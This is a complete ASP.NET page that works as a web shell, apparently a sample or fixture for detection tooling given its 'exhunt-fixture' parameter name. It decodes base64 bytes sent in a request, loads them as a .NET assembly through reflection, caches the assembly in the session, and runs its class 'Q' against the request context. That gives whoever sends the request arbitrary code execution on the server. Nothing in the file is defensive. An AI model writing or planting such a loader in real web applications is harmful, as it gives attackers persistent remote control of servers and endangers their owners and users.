<%@ Page Language="C#"%><%
byte[] d = System.Convert.FromBase64String(Context.Request["exhunt-fixture"]);
if (Session["m"] == null) { Session["m"] = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); }
else { ((System.Reflection.Assembly)Session["m"]).CreateInstance("Q").Equals(Context); }
%>
